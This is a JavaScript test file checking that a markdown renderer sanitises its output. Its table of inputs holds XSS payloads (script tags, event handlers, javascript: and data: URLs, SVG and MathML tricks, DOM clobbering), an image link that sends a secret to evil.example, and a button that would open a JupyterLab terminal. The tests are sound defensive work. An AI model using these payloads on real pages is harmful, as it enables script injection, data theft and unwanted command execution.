// @vitest-environment jsdom
// DOMPurify is not safe in happy-dom, which leaves attributes unchecked; jsdom is what it is made for.
import { expect, test } from "vitest";
import { markdown } from "../src/markdown.js";

const html = (text) => {
  const box = document.createElement("div");
  box.append(markdown(text));
  return box;
};

test("Markdown is laid out", () => {
  const box = html("# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");

  expect(box.querySelector("strong").textContent).toBe("bold");
  expect(box.querySelectorAll("li, td").length).toBe(4);
});

test.each([
  ["a script", "<script>window.hurt = 1</script>"],
  ["a handler", "<p onclick='hurt()'>x</p>"],
  ["a picture that carries data out", "![x](https://evil.example/?q=secret)"],
  ["a picture in HTML", "<img src=x onerror=hurt()>"],
  ["a form", "<form action='https://evil.example'><input name=a></form>"],
  ["a command of JupyterLab", "<button data-commandlinker-command='terminal:create-new'>Approve</button>"],
  ["an overlay that looks like Approve", "<div style='position:fixed;inset:0' class='afx-button' id='x'>Approve</div>"],
  ["a style sheet", "<style>.afx-approve{display:none}</style>"],
  ["a script address", "[x](javascript:hurt())"],
  ["a data address", "[x](data:text/html,<script>hurt()</script>)"],
  ["a frame", "<iframe src='https://evil.example'></iframe>"],
  ["a drawing", "<svg><a xlink:href='javascript:hurt()'><text>x</text></a></svg>"],
  ["formulas", "<math><mtext><style><img src=x onerror=hurt()></style></mtext></math>"],
  ["clobbering", "<a id='lines' name='lines' href='#'>x</a>"],
])("%s does not get through", (_, text) => {
  const box = html(text);

  expect(
    box.querySelectorAll("script, img, form, input, button, style, iframe, svg, math, picture, video").length,
  ).toBe(0);
  for (const element of box.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(["href", "target", "rel", "align", "start", "type", "title", "lang", "dir"]).toContain(name);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:|#)/);
    }
  }
});

test("a link opens elsewhere, and tells nothing of this page", () => {
  const link = html("[docs](https://example.org/x)").querySelector("a");

  expect(link.getAttribute("href")).toBe("https://example.org/x");
  expect(link.getAttribute("target")).toBe("_blank");
  expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
});
